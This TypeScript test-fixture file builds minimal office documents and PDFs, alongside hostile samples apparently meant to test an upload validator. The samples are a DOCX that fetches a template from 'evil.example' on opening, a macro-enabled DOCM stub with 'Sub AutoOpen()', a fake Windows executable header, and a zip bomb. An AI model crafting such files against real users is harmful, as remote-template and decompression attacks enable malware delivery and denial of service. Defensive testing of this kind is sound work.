// Small real documents, the same bytes every time, and hostile ones beside them.
import { strToU8, type Zippable, zipSync } from 'fflate'

const mtime = new Date('2022-11-23T07:00:00Z')

/** Parts in the order given; `mimetype` unpacked, as ODF wants it. */
export const zip = (parts: Record<string, string | Uint8Array>): Buffer => {
  const files: Zippable = {}
  for (const [name, content] of Object.entries(parts))
    files[name] = [
      typeof content === 'string' ? strToU8(content) : content,
      { mtime, level: name === 'mimetype' ? 0 : 6 },
    ]
  return Buffer.from(zipSync(files))
}

const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const packageNs = 'http://schemas.openxmlformats.org/package/2006'
const officeType = 'application/vnd.openxmlformats-officedocument'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const contentTypes = (part: string, type: string) =>
  `${xml}<Types xmlns="${packageNs}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${type}"/></Types>`

const relationships = (...list: { type: string; target: string; mode?: string }[]) =>
  `${xml}<Relationships xmlns="${packageNs}/relationships">${list
    .map(
      ({ type, target, mode }, at) =>
        `<Relationship Id="rId${at + 1}" Type="${office}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
    )
    .join('')}</Relationships>`

/** The parts of a DOCX of one paragraph; `more` adds parts or replaces them. */
export const docx = (text = 'Tham luận', more: Record<string, string | Uint8Array> = {}): Buffer =>
  zip({
    '[Content_Types].xml': contentTypes(
      'word/document.xml',
      `${officeType}.wordprocessingml.document.main+xml`,
    ),
    '_rels/.rels': relationships({ type: 'officeDocument', target: 'word/document.xml' }),
    'word/document.xml': `${xml}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
    ...more,
  })

/** A DOCX that fetches its template from elsewhere when opened. */
export const docxWithForeignTemplate = (): Buffer =>
  docx('Tham luận', {
    'word/_rels/settings.xml.rels': relationships({
      type: 'attachedTemplate',
      target: 'https://evil.example/t.dotm',
      mode: 'External',
    }),
  })

export const docm = (): Buffer =>
  docx('Tham luận', {
    '[Content_Types].xml': contentTypes(
      'word/document.xml',
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    ),
    'word/vbaProject.bin': 'Sub AutoOpen()',
  })

export const xlsx = (more: Record<string, string> = {}): Buffer =>
  zip({
    '[Content_Types].xml': contentTypes('xl/workbook.xml', `${officeType}.spreadsheetml.sheet.main+xml`),
    '_rels/.rels': relationships({ type: 'officeDocument', target: 'xl/workbook.xml' }),
    'xl/workbook.xml': `${xml}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`,
    ...more,
  })

const odtType = 'application/vnd.oasis.opendocument.text'
const odf = 'urn:oasis:names:tc:opendocument:xmlns'

const manifest = (inside = '') =>
  `${xml}<manifest:manifest xmlns:manifest="${odf}:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${odtType}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${inside}</manifest:file-entry></manifest:manifest>`

export const odt = (text = 'Tham luận', more: Record<string, string> = {}): Buffer =>
  zip({
    mimetype: odtType,
    'content.xml': `${xml}<office:document-content xmlns:office="${odf}:office:1.0" xmlns:text="${odf}:text:1.0" office:version="1.2"><office:body><office:text><text:p>${text}</text:p></office:text></office:body></office:document-content>`,
    'META-INF/manifest.xml': manifest(),
    ...more,
  })

export const odtWithPassword = (): Buffer =>
  odt('Tham luận', { 'META-INF/manifest.xml': manifest('<manifest:encryption-data/>') })

/** A PDF of one empty page with a right cross-reference table. @param catalog further entries of the catalog @param trailer of the trailer */
export const pdf = (title = 'Tham luan', catalog = '', trailer = ''): Buffer => {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    `<< /Title (${title}) >>`,
  ]
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R /Info 4 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(text + end, 'latin1')
}

/** The head of a Windows program. */
export const program = (): Buffer => {
  const bytes = Buffer.alloc(512)
  bytes.write('MZ', 'latin1')
  bytes.writeUInt32LE(0x80, 0x3c)
  bytes.write('PE\0\0', 0x80, 'latin1')
  return bytes
}

/** A DOCX that unfolds to `megabytes` of zeros. */
export const bomb = (megabytes: number): Buffer =>
  docx('Tham luận', { 'word/media/image1.bmp': new Uint8Array(megabytes * 1024 * 1024) })

export const types = {
  pdf: 'application/pdf',
  docx: `${officeType}.wordprocessingml.document`,
  odt: odtType,
  xlsx: `${officeType}.spreadsheetml.sheet`,
  csv: 'text/csv',
} as const
